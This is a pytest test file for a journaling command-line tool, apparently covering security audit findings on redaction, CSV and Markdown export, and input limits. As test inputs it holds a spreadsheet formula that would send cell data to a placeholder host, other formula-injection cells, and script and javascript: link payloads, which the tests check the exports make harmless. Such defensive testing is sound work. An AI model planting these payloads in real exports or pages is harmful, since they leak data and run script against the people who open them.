"""Issue 12, findings 7 to 12: redaction that cannot be made to hang, CSV cells that are
never formulas, prompts from files redacted, Markdown without raw HTML, limits with
clear messages, and names added without the shell's history. Runs against another kj
with KJ_UNDER_TEST (see privacy_run.py)."""

from __future__ import annotations

import json
import time

import pytest
from privacy_run import kj_run


def _add(**fields) -> None:
    kj_run("reflect", "--from", "-", input=json.dumps({"date": "2026-11-02", **fields}))


def test_a_long_run_of_spaces_after_born_does_not_hang(isolated_home):
    answer = "She was born" + " " * 10_000 + "1 and DOB" + " " * 10_000 + "2"
    started = time.perf_counter()
    _add(answers={"agency": answer}, share=True)
    kj_run("export", "--for-group", "--yes", "--format", "markdown")
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("extra", [[], ["--for-group", "--yes"]])
def test_csv_cells_are_never_formulas(isolated_home, extra):
    _add(answers={"agency": '=HYPERLINK("http://x.invalid/?"&A1,"see")',
                  "person": "+1 and more", "hard": "@SUM(1)", "skills": "-2+3"},
         tags=["=cmd"], share=True)
    out = kj_run("export", "--format", "csv", *extra).stdout
    for start in ('=HYPERLINK', '+1 and', '@SUM', '-2+3', '=cmd'):
        assert f",{start}" not in out and f',"{start}' not in out
    assert "'=HYPERLINK" in out or "\"'=HYPERLINK" in out


def test_a_prompt_from_a_file_is_checked_and_redacted(isolated_home):
    kj_run("redact", "add", "Quill")
    result = kj_run("reflect", "--from", "-", input=json.dumps({
        "date": "2026-11-02", "share": True,
        "answers": {"agency": {"prompt": "What did Mrs Quill need from you?",
                               "answer": "Time to talk."}}}))
    assert "prompt 'agency'" in result.stderr
    for format_name in ("markdown", "csv", "json", "html"):
        out = kj_run("export", "--for-group", "--yes", "--format", format_name).stdout
        assert "Quill" not in out, format_name


def test_markdown_export_carries_no_raw_html_or_script_links(isolated_home):
    _add(answers={"agency": "<script>alert(1)</script> <img src=x onerror=alert(1)> "
                            "[notes](javascript:alert(1))\n[ref]: javascript:alert(2)"})
    out = kj_run("export", "--format", "markdown").stdout
    assert "<script" not in out and "<img" not in out
    assert "](javascript:" not in out and "\n[ref]:" not in out


@pytest.mark.parametrize("line_break", ["\r", "\r\n", "\u2028", "\x85", "\x0b"])
def test_no_link_definition_after_any_line_break_in_a_markdown_export(isolated_home,
                                                                         line_break):
    # A lone carriage return ends a line in Markdown: "[ref]: url" after one was a live
    # link definition, because the check looked only after line feeds.
    _add(answers={"agency": f"fine{line_break}[ref]: javascript:alert(2)",
                  "forward": f"Rest{line_break}[z]: javascript:alert(3)"})
    target = isolated_home / "out.md"
    kj_run("export", "--format", "markdown", "-o", str(target))
    text = target.read_bytes().decode("utf-8")
    lines = text.splitlines()  # every break a viewer might take for the end of a line
    assert not [line for line in lines if line.lstrip().startswith(("[ref]:", "[z]:"))]
    assert "javascript:alert(2)" in text  # their words are kept, only made inert


def test_too_many_tags_are_refused_clearly(isolated_home):
    result = kj_run("reflect", "--from", "-", expect=None, input=json.dumps(
        {"date": "2026-11-02", "answers": {"agency": "x"},
         "tags": [f"tag{number}" for number in range(2_000)]}))
    assert result.exit_code == 2 and "at most 50 tags" in result.stderr


def test_a_very_long_tag_is_refused_clearly(isolated_home):
    result = kj_run("reflect", "--from", "-", expect=None, input=json.dumps(
        {"date": "2026-11-02", "answers": {"agency": "x"}, "tags": ["t" * 500]}))
    assert result.exit_code == 2 and "at most 60 characters" in result.stderr


def test_an_action_is_kept_short_and_the_answer_whole(isolated_home):
    long = "Plan " + "word " * 100_000
    _add(answers={"forward": long})
    actions = kj_run("actions", "--json").stdout
    assert len(actions) < 10_000
    assert json.loads(kj_run("show", "1", "--json").stdout)["answers"]


@pytest.mark.parametrize("query", [" OR ".join(f"w{n}" for n in range(2_000)),
                                   " ".join(f"p{n}*" for n in range(200))])
def test_a_search_too_complex_is_refused_clearly(isolated_home, query):
    _add(answers={"agency": "handover"})
    result = kj_run("search", query, expect=None)
    assert result.exit_code == 2 and "search" in result.stderr.lower()


def test_names_can_be_added_from_standard_input(isolated_home):
    result = kj_run("redact", "add", input="Quill\nMrs Patel\n\n")
    assert "Added 2" in result.stdout
    assert kj_run("redact", "list").stdout.split("\n")[:2] == ["Mrs Patel", "Quill"]


def test_pasting_many_lines_saves_the_answer_a_few_times(kj, monkeypatch):
    from kindjournal.journal import writes

    calls = []
    real = writes.set_answer
    monkeypatch.setattr(writes, "set_answer", lambda *a, **k: (calls.append(1), real(*a, **k)))
    pasted = "\n".join(f"line {n} of a long paste" for n in range(2_000))
    typed = "\n".join(["night"] + [""] * 9 + [pasted, ""] + [""] * 6 + [""]) + "\n"
    kj("reflect", input=typed)
    assert len(calls) < 40
    assert kj.json("show", "1")["answers"][0]["answer"].count("\n") == 1_999
